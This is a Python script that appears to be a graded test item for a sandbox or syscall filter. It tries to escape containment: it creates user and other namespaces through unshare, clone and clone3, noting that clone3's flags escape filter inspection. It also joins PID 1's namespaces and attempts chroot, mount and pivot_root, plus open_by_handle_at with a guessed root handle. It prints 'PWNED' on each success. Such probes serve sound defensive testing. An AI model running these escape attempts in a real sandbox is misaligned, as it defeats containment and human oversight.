# what: makes namespaces of its own to become root in them, joins others, mounts and changes roots
# on: numbers
# status: graded
# stopped by: --disable-userns leaves no user namespace to make; the filter refuses the rest
# %% [total]
import ctypes
import os
import platform
import struct

libc = ctypes.CDLL(None, use_errno=True)


def call(*arguments):
    """Make a system call with whole words, as the system reads them."""
    words = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    return libc.syscall(*words)


x86 = platform.machine() == "x86_64"
SIGCHLD = 17
FLAGS = {"user": 0x10000000, "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000, "time": 0x80}


def told(name, done):
    print(f"PWNED: {name}" if done >= 0 else f"{name}: {os.strerror(ctypes.get_errno())}")


for name, flag in FLAGS.items():
    told(f"unshare {name}", libc.unshare(flag))
    for extra in (flag, flag | FLAGS["user"]):
        # clone3 takes what it is to do from memory, where no filter of system calls can look.
        arguments = struct.pack("=8Q", extra & ~0x80, 0, 0, 0, SIGCHLD, 0, 0, 0)
        pid = call(435, arguments, len(arguments))
        if pid == 0:
            os._exit(0)
        told(f"clone3 {name}", pid if extra & ~0x80 else -1)
        pid = call(56 if x86 else 220, extra & ~0x80 | SIGCHLD, 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        told(f"clone {name}", pid if extra & ~0x80 else -1)
# %% [scaled]
for pid in ("1", str(os.getppid()), "self"):
    for name in ("user", "mnt", "pid", "net"):
        try:
            handle = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
        except OSError as error:
            print(pid, name, error.strerror)
            continue
        told(f"join {name} of {pid}", libc.setns(handle, 0))
os.makedirs("/tmp/top/old", exist_ok=True)
told("chroot", libc.chroot(b"/tmp/top"))
told("mount", libc.mount(b"none", b"/tmp/top", b"tmpfs", 0, None))
told("bind", libc.mount(b"/", b"/tmp/top", None, 4096, None))
told("remount", libc.mount(None, b"/", None, 32 | 4096, None))
told("umount", libc.umount2(b"/proc", 2))
told("pivot_root", call(155 if x86 else 41, b"/tmp/top", b"/tmp/top/old"))
for number in (428, 429, 430, 442, 467):  # the newer ways to mount
    told(f"call {number}", call(number, -100, b"/", 1 if number != 430 else 0, 0, 0))
# The root of the file system has a handle that is the same on many machines.
handle = struct.pack("=Iii", 8, 1, 2) + bytes(4)
told("open_by_handle_at", call(304 if x86 else 265, os.open("/usr", 0), handle, 0))
# %% [classify]
pass
